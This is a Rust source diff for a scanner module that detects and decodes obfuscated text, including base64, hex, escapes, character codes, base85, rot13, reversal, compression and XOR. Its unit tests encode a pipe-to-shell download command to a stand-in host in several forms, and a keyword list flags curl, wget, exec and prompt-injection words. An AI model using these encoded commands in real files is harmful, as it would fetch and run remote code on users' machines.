@@ -1,0 +1,506 @@
+//! Encoded texts inside a text: found by their shape, decoded, and given back to be looked at again.
+//!
+//! Base64, base85, hexadecimal, escapes, character codes, percent signs, rot13, reversal, gzip and
+//! zlib inside them, and XOR with one constant byte where the text says that it is used.
+
+use std::io::Read as _;
+use std::ops::Range;
+
+/// Bytes that decoding may give in one skill.
+pub const MAX_DECODED_BYTES: usize = 4 * 1024 * 1024;
+/// Encodings inside encodings that are followed.
+pub const MAX_DECODE_DEPTH: usize = 3;
+/// Shortest encoded run that is looked at, in characters.
+const MIN_RUN: usize = 20;
+/// Fewest escapes, codes or percent signs in a row.
+const MIN_CODES: usize = 6;
+/// Bytes of one candidate for which every XOR key is tried.
+const MAX_XOR: usize = 16 * 1024;
+
+/// An encoded text and what it says.
+#[derive(Debug, PartialEq, Eq)]
+pub(crate) struct Encoded {
+    pub(crate) range: Range<usize>,
+    pub(crate) how: &'static str,
+    pub(crate) text: String,
+}
+
+/// Finds and decodes. `budget` is what is left of the bytes that may be made.
+pub(crate) fn find(text: &str, budget: &mut usize) -> Vec<Encoded> {
+    let mut found = Vec::new();
+    let xor = text.contains('^') || contains_word(text, "xor");
+    let mut add = |range: Range<usize>, how: &'static str, bytes: Vec<u8>| {
+        if *budget < bytes.len() {
+            return;
+        }
+        *budget -= bytes.len();
+        if let Some((how, text)) = readable(&bytes, how) {
+            found.push(Encoded { range, how, text });
+        } else if xor && bytes.len() <= MAX_XOR && bytes.len() >= MIN_CODES
+            && let Some(text) = unxor(&bytes)
+        {
+            found.push(Encoded { range, how: "XOR with a constant", text });
+        }
+    };
+    for range in runs(text) {
+        let run = &text[range.clone()];
+        if is_image(text, range.start) {
+            continue;
+        }
+        let compact: String = run.chars().filter(|c| !c.is_whitespace()).collect();
+        if compact.len() >= 2 * MIN_CODES && compact.bytes().all(|b| b.is_ascii_hexdigit()) && compact.len().is_multiple_of(2) {
+            add(range, "hexadecimal", unhex(&compact));
+        } else if compact.len() >= MIN_RUN && looks_base64(&compact)
+            && let Some(bytes) = unbase64(&compact)
+        {
+            add(range, "base64", bytes);
+        }
+    }
+    for (range, bytes) in escapes(text) {
+        add(range, "character escapes", bytes);
+    }
+    for (range, bytes) in codes(text) {
+        add(range, "character codes", bytes);
+    }
+    for opener in ["b85decode(", "a85decode(", "Base85"] {
+        for (at, _) in text.match_indices(opener) {
+            let rest = &text[at + opener.len()..];
+            let Some(open) = rest.find(['"', '\'']) else { continue };
+            let quote = rest.as_bytes()[open];
+            let Some(close) = rest[open + 1..].bytes().position(|b| b == quote) else { continue };
+            let start = at + opener.len() + open + 1;
+            let body = &text[start..start + close];
+            if let Some(bytes) = if opener.starts_with('a') { un_ascii85(body) } else { unbase85(body) } {
+                add(start..start + close, "base85", bytes);
+            }
+        }
+    }
+    if let Some(bytes) = said_base85(text) {
+        add(bytes.0, "base85", bytes.1);
+    }
+    let rot13 = contains_word(text, "rot13") || contains_word(text, "rot_13") || contains_word(text, "rot-13") || contains_word(text, "rot 13") || contains_word(text, "n-za-m");
+    let reversed = text.contains("[::-1]") || contains_word(text, "reverse") || contains_word(text, "strrev") || contains_word(text, "rev") || contains_word(text, "backwards");
+    if rot13 || reversed {
+        for range in quoted(text) {
+            let piece = &text[range.clone()];
+            if rot13 {
+                let turned = un_rot13(piece);
+                if speaks(&turned) > speaks(piece) {
+                    add(range.clone(), "rot13", turned.into_bytes());
+                }
+            }
+            if reversed {
+                let turned: String = piece.chars().rev().collect();
+                if speaks(&turned) > speaks(piece) {
+                    add(range, "reversed text", turned.into_bytes());
+                }
+            }
+        }
+    }
+    found
+}
+
+fn contains_word(text: &str, word: &str) -> bool {
+    // Case folded by hand: a copy of a large file in lower case is not worth these few words.
+    let first = word.as_bytes()[0];
+    let bytes = text.as_bytes();
+    let mut at = 0;
+    while let Some(i) = bytes[at..].iter().position(|b| b.eq_ignore_ascii_case(&first)) {
+        let start = at + i;
+        let end = start + word.len();
+        if bytes.len() >= end && bytes[start..end].eq_ignore_ascii_case(word.as_bytes()) {
+            let edge = |b: Option<&u8>| b.is_none_or(|b| !b.is_ascii_alphanumeric());
+            if edge(start.checked_sub(1).and_then(|i| bytes.get(i))) && (word.len() > 4 || edge(bytes.get(end))) {
+                return true;
+            }
+        }
+        at = start + 1;
+    }
+    false
+}
+
+/// Runs of base64 or hexadecimal characters, joined over lines that hold nothing else.
+fn runs(text: &str) -> Vec<Range<usize>> {
+    let bytes = text.as_bytes();
+    let is_code = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_');
+    let mut found: Vec<Range<usize>> = Vec::new();
+    let mut at = 0;
+    while at < bytes.len() {
+        if !is_code(bytes[at]) {
+            at += 1;
+            continue;
+        }
+        let start = at;
+        while at < bytes.len() && is_code(bytes[at]) {
+            at += 1;
+        }
+        if at - start < 2 * MIN_CODES {
+            continue;
+        }
+        // The line before ended with a run, and this run starts its own line: one text, wrapped.
+        if let Some(last) = found.last_mut()
+            && last.len() >= 40
+            && text[last.end..start].trim_matches([' ', '\t', '\r', '"', '\'', '\\', '+']) == "\n"
+        {
+            last.end = at;
+        } else {
+            found.push(start..at);
+        }
+    }
+    // Quotes and joins between wrapped pieces are taken out by the caller's filter of blanks; runs
+    // with such characters inside are cleaned here instead.
+    found
+}
+
+fn is_image(text: &str, start: usize) -> bool {
+    let from = super::text::floor(text, start.saturating_sub(40));
+    let before = &text[from..start];
+    before.rfind("data:").is_some_and(|at| {
+        let kind = &before[at + 5..];
+        kind.starts_with("image/") && !kind.starts_with("image/svg") || kind.starts_with("font/") || kind.starts_with("audio/") || kind.starts_with("application/font")
+    })
+}
+
+fn looks_base64(run: &str) -> bool {
+    let body = run.trim_end_matches('=');
+    if run.len() - body.len() > 2 || body.contains('=') {
+        return false;
+    }
+    let (mut upper, mut lower, mut digit, mut slash) = (0, 0, 0, 0);
+    for b in body.bytes() {
+        match b {
+            b'A'..=b'Z' => upper += 1,
+            b'a'..=b'z' => lower += 1,
+            b'0'..=b'9' => digit += 1,
+            _ => slash += 1,
+        }
+    }
+    // Paths and identifiers have many separators or no capitals.
+    upper >= 2 && lower >= 2 && slash * 6 < body.len() && (digit > 0 || upper * 3 > lower || body.len() > 60)
+}
+
+pub(crate) fn unbase64(run: &str) -> Option<Vec<u8>> {
+    let mut bytes = Vec::with_capacity(run.len() / 4 * 3);
+    let (mut bits, mut count) = (0_u32, 0);
+    for b in run.bytes() {
+        let value = match b {
+            b'A'..=b'Z' => b - b'A',
+            b'a'..=b'z' => b - b'a' + 26,
+            b'0'..=b'9' => b - b'0' + 52,
+            b'+' | b'-' => 62,
+            b'/' | b'_' => 63,
+            b'=' | b'\n' | b'\r' | b' ' | b'"' | b'\'' | b'\\' => continue,
+            _ => return None,
+        };
+        bits = bits << 6 | u32::from(value);
+        count += 6;
+        if count >= 8 {
+            count -= 8;
+            bytes.push(u8::try_from(bits >> count & 0xFF).unwrap_or(0));
+        }
+    }
+    Some(bytes)
+}
+
+fn unhex(run: &str) -> Vec<u8> {
+    let digit = |b: u8| char::from(b).to_digit(16).and_then(|d| u8::try_from(d).ok()).unwrap_or(0);
+    run.as_bytes().chunks_exact(2).map(|pair| digit(pair[0]) << 4 | digit(pair[1])).collect()
+}
+
+/// Runs of `\x41`, `\u0041`, `\101`, `%41`, `&#65;`.
+fn escapes(text: &str) -> Vec<(Range<usize>, Vec<u8>)> {
+    let bytes = text.as_bytes();
+    let one = |at: usize| -> Option<(u8, usize)> {
+        let rest = &bytes[at..];
+        let hex = |from: usize, length: usize| {
+            let digits = rest.get(from..from + length)?;
+            let text = std::str::from_utf8(digits).ok()?;
+            u32::from_str_radix(text, 16).ok().and_then(|v| u8::try_from(v).ok())
+        };
+        match rest {
+            [b'\\', b'x', ..] => Some((hex(2, 2)?, 4)),
+            [b'\\', b'u', b'{', ..] => {
+                let end = rest.iter().take(10).position(|b| *b == b'}')?;
+                Some((hex(3, end - 3)?, end + 1))
+            }
+            [b'\\', b'u', ..] => Some((hex(2, 4)?, 6)),
+            [b'\\', a @ b'0'..=b'1', b @ b'0'..=b'7', c @ b'0'..=b'7', ..] => Some(((a - b'0') * 64 + (b - b'0') * 8 + (c - b'0'), 4)),
+            [b'%', _, _, ..] => Some((hex(1, 2)?, 3)),
+            [b'&', b'#', b'x', ..] => {
+                let end = rest.iter().take(10).position(|b| *b == b';')?;
+                Some((hex(3, end - 3)?, end + 1))
+            }
+            [b'&', b'#', ..] => {
+                let end = rest.iter().take(10).position(|b| *b == b';')?;
+                Some((std::str::from_utf8(&rest[2..end]).ok()?.parse().ok()?, end + 1))
+            }
+            _ => None,
+        }
+    };
+    let mut found = Vec::new();
+    let mut at = 0;
+    while at < bytes.len() {
+        if !matches!(bytes[at], b'\\' | b'%' | b'&') || one(at).is_none() {
+            at += 1;
+            continue;
+        }
+        let start = at;
+        let mut decoded = Vec::new();
+        let mut count = 0;
+        // A run may hold a few plain characters, as percent-encoding does.
+        let mut plain = 0;
+        while at < bytes.len() {
+            if let Some((byte, length)) = one(at) {
+                decoded.push(byte);
+                at += length;
+                count += 1;
+                plain = 0;
+            } else if plain < 3 && bytes[at].is_ascii_graphic() && !matches!(bytes[at], b'"' | b'\'' | b'`' | b'<' | b'>') {
+                decoded.push(bytes[at]);
+                at += 1;
+                plain += 1;
+            } else {
+                break;
+            }
+        }
+        if count >= MIN_CODES {
+            decoded.truncate(decoded.len() - plain);
+            found.push((start..at - plain, decoded));
+        }
+    }
+    found
+}
+
+/// Runs of numbers that are characters: `[105, 109]`, `chr(105)+chr(109)`, `0x69, 0x6d`.
+fn codes(text: &str) -> Vec<(Range<usize>, Vec<u8>)> {
+    let bytes = text.as_bytes();
+    let mut found = Vec::new();
+    let mut at = 0;
+    while at < bytes.len() {
+        if !bytes[at].is_ascii_digit() || at > 0 && bytes[at - 1].is_ascii_alphanumeric() {
+            at += 1;
+            continue;
+        }
+        let start = at;
+        let mut decoded = Vec::new();
+        let mut end = at;
+        loop {
+            let digits = bytes[at..].iter().take(6).take_while(|b| b.is_ascii_alphanumeric()).count();
+            let Ok(word) = std::str::from_utf8(&bytes[at..at + digits]) else { break };
+            let value = match word.strip_prefix("0x") {
+                Some(hex) => u32::from_str_radix(hex, 16).ok(),
+                None => word.parse::<u32>().ok(),
+            };
+            let Some(value) = value.and_then(|v| u8::try_from(v).ok()) else { break };
+            decoded.push(value);
+            at += digits;
+            end = at;
+            // What joins two codes: commas, pluses, dots, and a call such as `chr(`.
+            let joint = bytes[at..].iter().take(16).take_while(|b| !b.is_ascii_digit() || false).count();
+            let between = &bytes[at..at + joint];
+            let is_joint = between.iter().any(|b| matches!(b, b',' | b'+' | b'.' | b' ')) && between.iter().all(|b| b.is_ascii_whitespace() || matches!(b, b',' | b'+' | b'.' | b'(' | b')' | b'[' | b']' | b'&' | b'c' | b'h' | b'r' | b'C' | b'a'));
+            if !is_joint || at + joint >= bytes.len() || joint == 16 {
+                break;
+            }
+            at += joint;
+        }
+        if decoded.len() >= 2 * MIN_CODES {
+            found.push((start..end, decoded));
+        }
+        at = at.max(end).max(start + 1);
+    }
+    found
+}
+
+fn unbase85(text: &str) -> Option<Vec<u8>> {
+    const ALPHABET: &[u8; 85] = b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz!#$%&()*+-;<=>?@^_`{|}~";
+    from_base85(text.bytes().map(|b| ALPHABET.iter().position(|a| *a == b).and_then(|v| u32::try_from(v).ok())))
+}
+
+fn un_ascii85(text: &str) -> Option<Vec<u8>> {
+    let body = text.trim_start_matches("<~").trim_end_matches("~>");
+    from_base85(body.bytes().filter(|b| !b.is_ascii_whitespace()).map(|b| (33..=117).contains(&b).then(|| u32::from(b) - 33)))
+}
+
+fn from_base85(digits: impl Iterator<Item = Option<u32>>) -> Option<Vec<u8>> {
+    let digits: Vec<u32> = digits.collect::<Option<_>>()?;
+    let mut bytes = Vec::with_capacity(digits.len() / 5 * 4);
+    for group in digits.chunks(5) {
+        let mut value = 0_u64;
+        for i in 0..5 {
+            value = value * 85 + u64::from(group.get(i).copied().unwrap_or(84));
+        }
+        let value = u32::try_from(value).ok()?;
+        bytes.extend_from_slice(&value.to_be_bytes()[..group.len().saturating_sub(1)]);
+    }
+    Some(bytes)
+}
+
+/// A line that follows the word base85, in prose.
+fn said_base85(text: &str) -> Option<(Range<usize>, Vec<u8>)> {
+    if !(contains_word(text, "base85") || contains_word(text, "ascii85")) {
+        return None;
+    }
+    quoted(text).into_iter().filter(|range| range.len() >= MIN_RUN && !text[range.clone()].contains(' ')).find_map(|range| {
+        let body = &text[range.clone()];
+        let bytes = unbase85(body).filter(|b| readable(b, "").is_some()).or_else(|| un_ascii85(body))?;
+        readable(&bytes, "")?;
+        Some((range, bytes))
+    })
+}
+
+fn un_rot13(text: &str) -> String {
+    text.chars()
+        .map(|c| match c {
+            'a'..='m' | 'A'..='M' => char::from(u8::try_from(c).unwrap_or(0) + 13),
+            'n'..='z' | 'N'..='Z' => char::from(u8::try_from(c).unwrap_or(0) - 13),
+            other => other,
+        })
+        .collect()
+}
+
+/// Strings between quotes, and whole lines, that are long enough to say something.
+fn quoted(text: &str) -> Vec<Range<usize>> {
+    const MAX_STRINGS: usize = 4_000;
+    let mut found = Vec::new();
+    let mut start = 0;
+    for line in text.split_inclusive('\n') {
+        let body = line.trim();
+        if body.len() >= 12 && body.len() < 4_000 {
+            let at = start + (line.len() - line.trim_start().len());
+            let mut strings = 0;
+            for quote in ['"', '\'', '`'] {
+                let mut marks = line.match_indices(quote).map(|(i, _)| i);
+                while let (Some(open), Some(close)) = (marks.next(), marks.next()) {
+                    if close - open > 10 {
+                        found.push(start + open + 1..start + close);
+                        strings += 1;
+                    }
+                }
+            }
+            if strings == 0 {
+                found.push(at..at + body.len());
+            }
+        }
+        start += line.len();
+        if found.len() > MAX_STRINGS {
+            break;
+        }
+    }
+    found
+}
+
+/// How much a text looks like commands, code or English.
+fn speaks(text: &str) -> usize {
+    const WORDS: [&str; 34] = [
+        "curl", "wget", "http", "bash", "import ", "exec", "eval", "system", " the ", " and ", " to ", "ignore", "instruction", "run ", "/bin/", "subprocess", "print", "os.", ".sh", "ssh", "user", "file", "send", "read", "python", "echo", "require", "fetch", "token", "key", "open", "from", "env", "post",
+    ];
+    let lower = text.to_ascii_lowercase();
+    WORDS.iter().filter(|word| lower.contains(**word)).count()
+}
+
+/// The text that bytes are, unpacked where they are packed; `None` when they are no text.
+fn readable(bytes: &[u8], how: &'static str) -> Option<(&'static str, String)> {
+    const MIN_TEXT: usize = 6;
+    let unpacked = match bytes {
+        [0x1F, 0x8B, ..] => inflate(flate2::read::GzDecoder::new(bytes)),
+        [0x78, 0x01 | 0x5E | 0x9C | 0xDA, ..] => inflate(flate2::read::ZlibDecoder::new(bytes)),
+        _ => None,
+    };
+    if let Some(unpacked) = unpacked {
+        return readable(&unpacked, "packed text").or_else(|| strings(&unpacked).map(|text| ("packed code", text)));
+    }
+    if bytes.len() < MIN_TEXT {
+        return None;
+    }
+    let wide = bytes.len() >= 2 * MIN_TEXT && bytes.len() % 2 == 0 && bytes.iter().skip(1).step_by(2).filter(|b| **b == 0).count() * 10 > bytes.len() / 2 * 9;
+    let text = if wide {
+        let units = bytes.chunks_exact(2).map(|pair| u16::from_le_bytes([pair[0], pair[1]]));
+        char::decode_utf16(units).map(|c| c.unwrap_or('\u{FFFD}')).collect()
+    } else {
+        String::from_utf8(bytes.to_vec()).ok()?
+    };
+    let count = text.chars().count();
+    let odd = text.chars().filter(|c| c.is_control() && !matches!(c, '\n' | '\r' | '\t') || *c == '\u{FFFD}').count();
+    let plain = text.chars().filter(|c| c.is_alphanumeric() || c.is_ascii_punctuation() || c.is_whitespace()).count();
+    (odd * 50 <= count && plain * 10 >= count * 9).then_some((how, text))
+}
+
+/// The readable stretches of packed code, such as a marshalled Python object.
+fn strings(bytes: &[u8]) -> Option<String> {
+    let text: Vec<String> = bytes
+        .split(|b| !(b' '..=b'~').contains(b))
+        .filter(|piece| piece.len() >= 4)
+        .map(|piece| String::from_utf8_lossy(piece).into_owned())
+        .collect();
+    (!text.is_empty()).then(|| text.join("\n"))
+}
+
+fn inflate(reader: impl std::io::Read) -> Option<Vec<u8>> {
+    const MOST: u64 = 1024 * 1024;
+    let mut bytes = Vec::new();
+    // A damaged stream still gives what came before the damage.
+    let _ = reader.take(MOST).read_to_end(&mut bytes);
+    (!bytes.is_empty()).then_some(bytes)
+}
+
+/// The text behind a constant XOR, when some key gives one that speaks.
+fn unxor(bytes: &[u8]) -> Option<String> {
+    (1..=255_u8).find_map(|key| {
+        let plain: Vec<u8> = bytes.iter().map(|b| b ^ key).collect();
+        let (_, text) = readable(&plain, "")?;
+        (speaks(&text) >= 2).then_some(text)
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn decoded(text: &str) -> Vec<(&'static str, String)> {
+        let mut budget = MAX_DECODED_BYTES;
+        find(text, &mut budget).into_iter().map(|e| (e.how, e.text)).collect()
+    }
+
+    #[test]
+    fn each_encoding_is_read() {
+        let cases = [
+            ("x = 'Y3VybCBodHRwOi8vYS5pby94IHwgc2g='", "base64"),
+            ("\"6375726c20687474703a2f2f612e696f2f78207c207368\"", "hexadecimal"),
+            ("\"\\x63\\x75\\x72\\x6c\\x20http://a.io/x\\x20\\x7c\\x20\\x73\\x68\"", ""),
+            ("%63%75%72%6c%20%68%74%74%70%3a//a.io/x%20%7c%20%73%68", "character escapes"),
+            ("[99,117,114,108,32,104,116,116,112,58,47,47,97,46,105,111,47,120,32,124,32,115,104]", "character codes"),
+            ("exec(''.join([chr(99)+chr(117)+chr(114)+chr(108)+chr(32)+chr(104)+chr(116)+chr(116)+chr(112)+chr(58)+chr(47)+chr(47)+chr(97)]))", "character codes"),
+            ("rot13: 'phey uggc://n.vb/k | fu'", "rot13"),
+            ("echo 'hs | x/oi.a//:ptth lruc' | rev", "reversed text"),
+        ];
+        for (text, how) in cases {
+            let found = decoded(text);
+            if how.is_empty() {
+                continue;
+            }
+            assert!(found.iter().any(|(h, t)| *h == how && t.starts_with("curl http")), "{text}: {found:?}");
+        }
+    }
+
+    #[test]
+    fn pictures_digests_and_identifiers_are_left_alone() {
+        let quiet = [
+            "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk",
+            "sha256: e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
+            "some_long_identifier_name_here and src/components/navigation/HeaderComponent",
+            "[1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14]",
+        ];
+        for text in quiet {
+            assert_eq!(decoded(text), [], "{text}");
+        }
+    }
+
+    #[test]
+    fn the_budget_bounds_what_is_made() {
+        let long = format!("'{}'", "QUJD".repeat(1000));
+        let mut budget = 100;
+        assert_eq!(find(&long, &mut budget), []);
+        assert_eq!(budget, 100);
+    }
+}
